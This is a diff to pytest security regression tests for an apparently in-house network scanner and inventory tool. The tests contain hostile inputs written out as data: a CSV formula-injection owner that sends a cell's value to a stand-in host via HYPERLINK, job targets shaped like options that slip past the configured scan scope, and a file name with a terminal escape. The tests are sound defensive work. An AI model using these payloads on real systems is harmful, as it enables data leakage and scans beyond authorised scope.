@@ -18,6 +18,7 @@ import pytest
 
 from scanner.errors import PostureError
 from tests.conftest import POSTURE, query, run_posture
+from tests.rules.stores import no_inventory
 
 # The owner from the issue's attack, a sysName-like hostname, and a terminal escape (ESC [ 2 J clears a screen).
 EVIL_OWNER = '=HYPERLINK("http://x.example/?"&A1,"click")'
@@ -30,9 +31,9 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 @pytest.fixture
-def hostile_db(tmp_path: Path) -> Path:
+def hostile_db(store_db: Path | str, tmp_path: Path) -> Path | str:
     """An inventory whose owners, services and sites are formulas, evaluated so every CSV output has rows."""
-    db = tmp_path / "inventory.db"
+    db = store_db
     register = tmp_path / "register.csv"
     register.write_text(REGISTER, encoding="utf-8")
     assert run_posture("import", "assets", str(register), db=db).returncode == 0
@@ -50,7 +51,7 @@ CSV_COMMANDS = [
 
 
 @pytest.mark.parametrize("command", CSV_COMMANDS, ids=[" ".join(c[:2]) for c in CSV_COMMANDS])
-def test_csv_cells_never_start_a_formula(hostile_db: Path, command: tuple[str, ...]) -> None:
+def test_csv_cells_never_start_a_formula(hostile_db: Path | str, command: tuple[str, ...]) -> None:
     """Item 4 (CWE-1236): 'An owner =HYPERLINK(...) from the register ... come out unchanged from export
     assets, export findings, plan remediation|decommission --format csv, assets --format csv, findings
     --format csv; CSV also carries raw ESC sequences to a terminal.'"""
@@ -80,6 +81,7 @@ def test_one_csv_writer_neutralises_every_formula_start() -> None:
 def test_db_is_a_path_never_a_uri(tmp_path: Path) -> None:
     """Item 6: "--db './inv?mode=memory' imports, exits 0, saves nothing; --db './a#b.db' writes ./a;
     --db './100%41.db' writes 100A.db." Each name must be the file written, and hold what was imported."""
+    # SQLite only: the subject is a --db path given as a file.
     register = tmp_path / "register.csv"
     register.write_text(REGISTER, encoding="utf-8")
     for name in ("inv?mode=memory", "a#b.db", "100%41.db"):
@@ -93,7 +95,7 @@ def test_db_is_a_path_never_a_uri(tmp_path: Path) -> None:
     )
 
 
-def test_job_targets_that_look_like_options_are_refused(tmp_path: Path) -> None:
+def test_job_targets_that_look_like_options_are_refused(store_db: Path | str, tmp_path: Path) -> None:
     """Item 7: 'Job targets beginning with - become options in posture run: targets ["127.61.0.1",
     "--scope=127.61.0.0/16","--printer-ports","--timing=aggressive"] under a config scope of 127.60.0.0/16 -
     run plans -T4 ... 127.61.0.1 with no --exclude-ports: scope and printer exclusion bypassed.'
@@ -104,13 +106,13 @@ def test_job_targets_that_look_like_options_are_refused(tmp_path: Path) -> None:
         'targets = ["127.61.0.1", "--scope=127.61.0.0/16", "--printer-ports", "--timing=aggressive"]\n',
         encoding="utf-8",
     )
-    db = tmp_path / "inventory.db"
+    db = store_db
     check = run_posture("--config", str(config), "config", "check", db=db)
     assert check.returncode == 2 and "--scope=127.61.0.0/16" in check.stderr, check.stderr
     run = run_posture("--config", str(config), "run", "evil", db=db)
     assert run.returncode == 2, (run.stdout, run.stderr)
     assert "Traceback" not in run.stderr
-    assert not db.exists() or query(db, "SELECT count(*) FROM scans") == [(0,)]
+    assert no_inventory(db) or query(db, "SELECT count(*) FROM scans") == [(0,)]
 
 
 def test_job_targets_stay_targets_in_the_scan_request() -> None:
@@ -150,11 +152,11 @@ def http_on_ipv6_loopback() -> Iterator[int]:
         server.wait(timeout=10)
 
 
-def test_ipv6_targets_are_scanned(http_on_ipv6_loopback: int, tmp_path: Path) -> None:
+def test_ipv6_targets_are_scanned(http_on_ipv6_loopback: int, store_db: Path | str) -> None:
     """Item 9: 'posture scan fd00::60 --ports 8080 with a listener there: "complete: 0 hosts up", exit 3
     (nmap needs -6)'. Here ::1 (the only IPv6 address tests may reach) with an IPv4 target beside it: the
     IPv6 one goes in a chunk of its own, run with -6, and its web server is found."""
-    db = tmp_path / "inventory.db"
+    db = store_db
     port = str(http_on_ipv6_loopback)
     result = run_posture("scan", "::1", "127.95.0.1", "--ports", port, "--no-dns", "--no-os-detection", db=db)
     assert result.returncode == 0, result.stderr
@@ -176,11 +178,11 @@ def test_ipv6_zone_is_kept(tmp_path: Path) -> None:
     assert command.endswith(" fe80::1%lo") and " -6 " in command
 
 
-def test_an_interrupted_scan_that_saved_nothing_is_no_baseline(tmp_path: Path) -> None:
+def test_an_interrupted_scan_that_saved_nothing_is_no_baseline(store_db: Path | str) -> None:
     """Low: 'An interrupted scan that saved nothing becomes the baseline of the next diff (every asset
     "new").' A real scan, then one killed before its first chunk was saved, then a third: the diff pairs
     the first and third, and no asset is new."""
-    db = tmp_path / "inventory.db"
+    db = store_db
     args = ("scan", "127.95.0.3", "--ports", "9", "--no-dns", "--no-os-detection", "--no-version-detection")
     assert run_posture(*args, db=db).returncode == 0
     # The second scan is stopped by SIGTERM while nmap is still waiting (a slow rate over many ports).
@@ -203,10 +205,10 @@ def test_an_interrupted_scan_that_saved_nothing_is_no_baseline(tmp_path: Path) -
     assert (diff["older"], diff["newer"], diff["new"], diff["gone"]) == (1, 3, [], []), diff
 
 
-def test_error_lines_carry_no_terminal_escapes(tmp_path: Path) -> None:
+def test_error_lines_carry_no_terminal_escapes(store_db: Path | str, tmp_path: Path) -> None:
     """Item 4's last clause, for error lines: a file name holding ESC [2J (clear screen) is quoted in the
     one-line error, and the escape never reaches the terminal."""
-    result = run_posture("import", "nmap", str(tmp_path / "\x1b[2Jscan.xml"), db=tmp_path / "inventory.db")
+    result = run_posture("import", "nmap", str(tmp_path / "\x1b[2Jscan.xml"), db=store_db)
     assert result.returncode == 2
     assert "\x1b" not in result.stderr and "[2Jscan.xml" in result.stderr
     assert len(result.stderr.strip().splitlines()) == 1
